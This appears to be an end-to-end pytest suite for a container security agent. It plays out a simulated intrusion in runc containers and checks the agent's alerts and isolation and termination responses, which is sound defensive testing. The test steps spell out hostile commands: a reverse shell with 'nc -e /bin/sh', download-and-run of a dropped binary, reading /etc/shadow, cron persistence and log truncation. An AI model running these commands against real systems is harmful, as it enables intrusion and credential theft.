"""End to end: the agent as its own process (`mamori run`, the console script a user runs)
with the default rules, a response policy and the Kubernetes API double, watched by a gRPC
subscriber, while an intrusion plays out step by step in real runc containers; then a
benign workload runs for a while and must raise nothing at all.

The cast (each a runc container with a pod at the API double):
  shop/web-…      an exploitable "node" web app; the attacker's commands run in shells it
                  spawns; isolated when it contacts the Kubernetes API, terminated when it
                  reaches a mining pool
  payments/api-…  drift prevention on (drift.prevent_namespaces): a dropped binary never runs
  shop/catalog-…  busybox httpd serving pages, and a housekeeping script in its own directory
"""
from __future__ import annotations

import hashlib
import os
import pty
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request

import grpc
import pytest

from agent.api.gen.mamori.v1 import alerts_pb2 as pb
from agent.api.gen.mamori.v1 import alerts_pb2_grpc as pb_grpc
from testbed.image import build_image
from testbed.kube_double import KubeDouble
from testbed import runc
from testbed.runc import Container
from testbed.waiting import wait_until

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
NODE = "e2e-node"
NODE_APP = "/usr/local/bin/node"
BUSYBOX_SHA = hashlib.sha256(open("/bin/busybox", "rb").read()).hexdigest()


def sha256(path: str) -> str:
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()

POLICY = """\
mode: enforce
protected_namespaces: [kube-system, mamori]
rate_limit_per_minute: 100
incident_window_seconds: 0
overrides:
  - rule: Kubernetes API or kubelet contacted from a container
    namespace: shop
    action: isolate
  - rule: Connection to a mining pool port
    namespace: shop
    action: terminate
"""

HOUSEKEEPING = """\
#!/bin/sh
# rotate the app's own data files: write, archive, prune
set -e
d=/home/app/data
mkdir -p $d/archive
i=0
while [ $i -lt 5 ]; do
    echo "order $i $(date +%s)" >> $d/orders.log
    i=$((i + 1))
done
if [ -f $d/orders.log ]; then
    mv $d/orders.log $d/archive/orders.$(date +%s%N).log
    gzip -f $d/archive/*.log
fi
ls -1t $d/archive | tail -n +4 | while read f; do rm -f "$d/archive/$f"; done
find $d -type f | wc -l > $d/count
"""


# -- the world ---------------------------------------------------------------------------

class Subscriber:
    """A gRPC client of the agent, as any consumer would be: every alert since sequence 0."""

    def __init__(self, target: str):
        self.alerts: list[pb.Alert] = []
        self.error = None
        self.channel = grpc.insecure_channel(target)
        stub = pb_grpc.AlertsStub(self.channel)
        self.stream = stub.Subscribe(pb.SubscribeRequest(since_sequence=0))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        try:
            for a in self.stream:
                if not a.HasField("notice"):
                    self.alerts.append(a)
        except grpc.RpcError as e:
            if e.code() != grpc.StatusCode.CANCELLED:
                self.error = e

    def close(self):
        self.stream.cancel()
        self.channel.close()

    def mark(self) -> int:
        return len(self.alerts)

    def wait_for(self, since: int, rule: str, container_id: str, timeout: float = 15,
                 source: str = "rule") -> pb.Alert:
        found = []

        def seen():
            found[:] = [a for a in self.alerts[since:] if a.rule == rule and
                        a.container.id == container_id and a.source == source]
            return bool(found) or self.error is not None
        assert wait_until(seen, timeout) and self.error is None, (
            f"no alert {rule!r} for {container_id} (stream error: {self.error}); got "
            f"{[(a.rule, a.container.id[-8:]) for a in self.alerts[since:]]}")
        return found[0]


class Listener:
    """A TCP server on the host side of a container's veth. Each connection is answered by
    `reply` (bytes to send, then close) and recorded."""

    def __init__(self, ip: str, port: int, reply: bytes = b""):
        self.connections = 0
        self.received = b""
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((ip, port))
        self.sock.listen(16)
        self.reply = reply
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(3)
                if self.reply:
                    conn.sendall(self.reply)
                conn.shutdown(socket.SHUT_WR)
                try:
                    while chunk := conn.recv(4096):
                        self.received += chunk
                except OSError:
                    pass

    def close(self):
        self.sock.close()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class World:
    pass


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    w = World()
    work = tmp_path_factory.mktemp("e2e")
    probe = str(work / "probe")
    subprocess.run(["gcc", "-static", "-O2", "-o", probe,
                    os.path.join(ROOT, "tests", "helpers", "probe.c")], check=True)
    housekeeping = work / "housekeeping.sh"
    housekeeping.write_text(HOUSEKEEPING)
    housekeeping.chmod(0o755)
    img = build_image(str(work / "image"), helpers={
        "/usr/local/bin/probe": probe, NODE_APP: probe,
        "/usr/local/bin/housekeeping.sh": str(housekeeping)})
    os.makedirs(f"{img}/www", exist_ok=True)
    with open(f"{img}/www/index.html", "w") as f:
        f.write("<h1>catalog</h1>\n")
    with open(f"{img}/var/log/app.log", "w") as f:
        f.write("started\n")
    os.makedirs(f"{img}/home/app/data", exist_ok=True)

    cdir = str(work / "containers")
    w.web = Container(img, cdir, name=f"e2e-web-{os.getpid()}", network=True,
                      command=[NODE_APP, "spawn", "/bin/sleep", "3600"])
    w.api = Container(img, cdir, name=f"e2e-api-{os.getpid()}")
    w.catalog = Container(img, cdir, name=f"e2e-catalog-{os.getpid()}", network=True,
                          command=["/usr/sbin/httpd", "-f", "-p", "8080", "-h", "/www"])
    w.kube = KubeDouble(bookmark_interval=0.5).start()
    w.kube.add_workload("shop", "web", "web-5d8f7")
    w.kube.add_workload("payments", "api", "api-6c4b2")
    w.kube.add_workload("shop", "catalog", "catalog-7f9d1")
    w.pods = {}
    for c, ns, name, rs in ((w.web, "shop", "web-5d8f7-x2x9q", "web-5d8f7"),
                            (w.api, "payments", "api-6c4b2-m4k8z", "api-6c4b2"),
                            (w.catalog, "shop", "catalog-7f9d1-p7q2w", "catalog-7f9d1")):
        pod = KubeDouble.make_pod(ns, name, NODE, {
            "app": {"id": f"containerd://{c.id}", "image": f"registry.example/{ns}:1.0"}},
            labels={"app": name.split("-")[0]}, owner=("ReplicaSet", rs))
        w.kube.put_pod(pod)
        w.pods[c.id] = (ns, name)

    (work / "policy.yaml").write_text(POLICY)
    kubeconfig = w.kube.write_kubeconfig(str(work / "kubeconfig"))
    sock = f"unix://{work}/mamori.sock"
    w.metrics = f"127.0.0.1:{free_port()}"
    (work / "mamori.yaml").write_text(
        f"node_name: {NODE}\n"
        f"kubernetes: {{mode: kubeconfig, kubeconfig: {kubeconfig}}}\n"
        f"rules: {{paths: [{ROOT}/rules]}}\n"
        f"sensor: {{watched_cgroups: [{runc.CGROUP_PARENT}]}}\n"
        f"context: {{container_parents: [{runc.CGROUP_PARENT}]}}\n"
        f"drift: {{prevent_namespaces: [payments]}}\n"
        f"alerts: {{journal_dir: {work}/journal}}\n"
        f"api: {{listen: ['{sock}']}}\n"
        f"metrics: {{listen: '{w.metrics}'}}\n"
        f"response: {{policy: {work}/policy.yaml}}\n"
        f"output: {{path: {work}/alerts.jsonl}}\n")
    mamori = os.path.join(os.path.dirname(sys.executable), "mamori")
    w.log = open(work / "agent.log", "w+")
    w.agent = subprocess.Popen([mamori, "run", "--config", str(work / "mamori.yaml")],
                               cwd=ROOT, stdout=subprocess.DEVNULL, stderr=w.log)
    w.sub = None
    try:
        assert wait_until(lambda: _ready(w.metrics) or w.agent.poll() is not None, 90)
        assert w.agent.poll() is None, open(work / "agent.log").read()
        w.sub = Subscriber(sock)
        for c in (w.web, w.api, w.catalog):
            c.start()
        yield w
    finally:
        if w.sub:
            w.sub.close()
        for c in (w.web, w.api, w.catalog):
            c.stop()
        w.agent.terminate()
        try:
            w.agent.wait(timeout=30)
        except subprocess.TimeoutExpired:
            w.agent.kill()
        w.kube.stop()
        w.log.seek(0)
        sys.stderr.write(w.log.read()[-4000:])
        shutil.rmtree(work / "image", ignore_errors=True)


def _ready(metrics: str) -> bool:
    try:
        with urllib.request.urlopen(f"http://{metrics}/readyz", timeout=1) as r:
            return r.status == 200
    except OSError:
        return False


def exploit(c: Container, script: str, **kw):
    """The attacker's command, run by a shell that the exploited web app spawned."""
    return c.exec(NODE_APP, "spawn", "/bin/sh", "-c", script, check=False, **kw)


def check_alert(w, a: pb.Alert, c: Container, tactic: str, technique: str):
    """What every alert of the intrusion must say about where and who."""
    ns, pod = w.pods[c.id]
    assert (a.tactic.id, a.technique.id) == (tactic, technique)
    assert a.node == NODE
    assert a.container.id == c.id
    assert (a.pod.namespace, a.pod.name) == (ns, pod)
    assert (a.pod.owner_kind, a.pod.owner_name) == ("Deployment", pod.rsplit("-", 2)[0])
    assert a.sequence > 0 and a.id


def ancestry(a: pb.Alert) -> list[str]:
    return [x.exe for x in a.process.ancestors]


def attack_step(w, script: str, rule: str, tactic: str, technique: str) -> pb.Alert:
    """One exploit in the web app; the alert it must raise, checked for where and who."""
    m = w.sub.mark()
    exploit(w.web, script)
    a = w.sub.wait_for(m, rule, w.web.id)
    check_alert(w, a, w.web, tactic, technique)
    return a


# -- the intrusion -----------------------------------------------------------------------

def test_01_initial_access_a_shell_spawned_by_the_web_app(world):
    a = attack_step(world, "echo pwned > /dev/null", "Shell spawned by a web server",
                    "TA0001", "T1190")
    assert a.process.exe == "/bin/busybox" and a.process.name == "sh"
    assert list(a.process.args) == ["/bin/sh", "-c", "echo pwned > /dev/null"]
    assert ancestry(a)[0] == NODE_APP
    assert not a.HasField("response")                   # the rule says log: nothing done


def test_02_an_interactive_shell(world):
    m = world.sub.mark()
    master, slave = pty.openpty()          # as kubectl exec -it gives it a terminal
    try:
        subprocess.run(["runc", "exec", "-t", world.web.id, "/bin/sh", "-c", "exit 0"],
                       stdin=slave, stdout=slave, stderr=slave, timeout=30, check=True)
    finally:
        os.close(master)
        os.close(slave)
    a = world.sub.wait_for(m, "Interactive shell in a container", world.web.id)
    check_alert(world, a, world.web, "TA0002", "T1059.004")
    assert a.event.exec.stdin == "tty"
    assert list(a.process.args) == ["/bin/sh", "-c", "exit 0"]


def test_03_reading_credentials(world):
    a = attack_step(world, "cat /etc/shadow > /dev/null", "Shadow file read in a container",
                    "TA0006", "T1003.008")
    assert a.event.file.path == "/etc/shadow"
    assert NODE_APP in ancestry(a)           # the web app is where it came from


def test_04_downloading_and_running_a_dropped_binary(world):
    web = world.web
    tool = os.path.join(web.image, "usr/local/bin/probe")     # a static binary to drop
    server = Listener(web.host_ip, 8000, reply=open(tool, "rb").read())
    try:
        m = world.sub.mark()
        r = exploit(web, f"nc -w 3 {web.host_ip} 8000 < /dev/null > /tmp/.kworker && "
                         "chmod +x /tmp/.kworker && /tmp/.kworker spawn /bin/echo ran; "
                         "exit $?")
        assert r.stdout == b"ran\n", r.stderr               # logged, not prevented, here
        assert server.connections == 1
        nc = world.sub.wait_for(m, "Netcat or socat run in a container", web.id)
        check_alert(world, nc, web, "TA0011", "T1095")
        drift = world.sub.wait_for(m, "Drift - new program run in a container", web.id)
        check_alert(world, drift, web, "TA0011", "T1105")
        assert (drift.drift.kind, drift.drift.path, drift.drift.sha256) == (
            "new", "/tmp/.kworker", sha256(tool))
        assert drift.drift.prevented is False
        assert drift.process.exe == "/tmp/.kworker"
        assert ancestry(drift)[:2] == ["/bin/busybox", NODE_APP]     # sh, then the app
        hidden = world.sub.wait_for(m, "Hidden program run", web.id)
        check_alert(world, hidden, web, "TA0005", "T1564.001")
    finally:
        server.close()


def test_05_a_reverse_shell_to_a_listener(world):
    web = world.web
    attacker = Listener(web.host_ip, 9001, reply=b"echo $((6*7))\nexit\n")
    try:
        m = world.sub.mark()
        exploit(web, f"nc {web.host_ip} 9001 -e /bin/sh", timeout=30)
        assert wait_until(lambda: b"42" in attacker.received, 10)   # it really ran
        a = world.sub.wait_for(m, "Shell with a network socket for stdio", web.id)
        check_alert(world, a, web, "TA0002", "T1059.004")
        assert a.event.exec.stdin == "socket" and a.event.exec.stdout == "socket"
        assert ancestry(a)[0] == NODE_APP        # nc -e replaced itself with the shell
    finally:
        attacker.close()


def test_06_persistence_through_cron(world):
    a = attack_step(world, "echo '*/5 * * * * /tmp/.kworker' >> /var/spool/cron/crontabs/root",
                    "Cron job written in a container", "TA0003", "T1053.003")
    assert a.event.file.path == "/var/spool/cron/crontabs/root"


def test_07_tampering_with_logs(world):
    a = attack_step(world, ": > /var/log/app.log", "Log file deleted or truncated",
                    "TA0005", "T1070.002")
    assert a.event.file.path == "/var/log/app.log"
    assert os.path.getsize(os.path.join(world.web.rootfs, "var/log/app.log")) == 0


def _reaches(c: Container, listener: Listener) -> bool:
    before = listener.connections
    c.sh(f"nc -w 1 {c.host_ip} 8090 < /dev/null", check=False)
    return wait_until(lambda: listener.connections > before, 2)


def test_08_contacting_the_kubernetes_api_isolates_the_pod(world):
    web = world.web
    api = Listener(web.host_ip, 6443)
    probe = Listener(web.host_ip, 8090)
    try:
        assert _reaches(web, probe)
        m = world.sub.mark()
        exploit(web, f"nc -w 1 {web.host_ip} 6443 < /dev/null")
        a = world.sub.wait_for(m, "Kubernetes API or kubelet contacted from a container",
                               web.id)
        check_alert(world, a, web, "TA0007", "T1613")
        assert a.event.network.dport == 6443
        assert (a.response.action, a.response.status) == ("isolate", "done")
        # the node-local part holds at once: the container reaches nothing any more
        assert not _reaches(web, probe)
        # and the API part follows: the pod is labelled and its namespace quarantined
        follow = world.sub.wait_for(m, a.rule, web.id, source="response")
        assert (follow.id, follow.response.status) == (a.id, "done")
        ns, pod = world.pods[web.id]
        labels = world.kube.pods[(ns, pod)]["metadata"]["labels"]
        assert labels["mamori.io/quarantine"] == "true"
        pol = world.kube.networkpolicies[(ns, "mamori-quarantine")]
        assert pol["spec"]["podSelector"]["matchLabels"] == {"mamori.io/quarantine": "true"}
        assert sorted(pol["spec"]["policyTypes"]) == ["Egress", "Ingress"]
    finally:
        api.close()
        probe.close()


def test_09_reaching_a_mining_pool_terminates_the_pod(world):
    web = world.web
    assert web.pids()
    m = world.sub.mark()
    exploit(web, f"nc -w 1 {web.host_ip} 3333 < /dev/null; sleep 30", timeout=40)
    a = world.sub.wait_for(m, "Connection to a mining pool port", web.id)
    check_alert(world, a, web, "TA0040", "T1496")
    assert a.event.network.dport == 3333
    assert (a.response.action, a.response.status) == ("terminate", "done")
    assert "killed every process of the container" in a.response.detail
    assert wait_until(lambda: web.pids() == [], 5)          # the whole container is gone
    follow = world.sub.wait_for(m, a.rule, web.id, source="response")
    assert (follow.id, follow.response.status) == (a.id, "done")
    ns, pod = world.pods[web.id]
    assert (ns, pod) not in world.kube.pods
    assert [r.path for r in world.kube.requests_to("DELETE", "/pods/")] == [
        f"/api/v1/namespaces/{ns}/pods/{pod}"]
    [ev] = [e for e in world.kube.events if e["reason"] == "MamoriTerminated"]
    assert ev["involvedObject"]["name"] == pod and a.id in ev["message"]


def test_10_drift_is_prevented_where_the_policy_says_so(world):
    api = world.api
    m = world.sub.mark()
    r = api.sh("cp /bin/busybox /tmp/tool && /tmp/tool echo ran", check=False)
    assert r.stdout == b""                       # killed before its first instruction
    assert r.returncode == 137
    a = world.sub.wait_for(m, "Drift - new program run in a container", api.id)
    check_alert(world, a, api, "TA0011", "T1105")
    assert (a.drift.kind, a.drift.path, a.drift.prevented) == ("new", "/tmp/tool", True)
    assert a.drift.sha256 == BUSYBOX_SHA
    assert a.event.exec.prevented is True
    assert api.pids()                            # the pod itself keeps running


# -- the benign workload -----------------------------------------------------------------

def test_11_a_benign_workload_raises_no_alert(world):
    cat = world.catalog
    m = world.sub.mark()
    served = 0
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        with urllib.request.urlopen(f"http://{cat.cont_ip}:8080/index.html", timeout=5) as r:
            assert r.read() == b"<h1>catalog</h1>\n"
            served += 1
        if served % 20 == 0:
            cat.exec("/usr/local/bin/housekeeping.sh")
        time.sleep(0.02)
    assert served >= 200
    archived = cat.sh("ls /home/app/data/archive | wc -l; cat /home/app/data/count").stdout
    assert archived.split()[0] in (b"1", b"2", b"3")               # pruned to three
    # a sentinel the agent must see, so that "no alert" is not just "not yet"
    sentinel = world.sub.mark()
    cat.exec(NODE_APP, "spawn", "/bin/sh", "-c", "true")
    world.sub.wait_for(sentinel, "Shell spawned by a web server", cat.id)
    benign = [a for a in world.sub.alerts[m:sentinel] if a.container.id == cat.id]
    assert benign == [], [(a.rule, a.output) for a in benign]
    assert cat.pids()
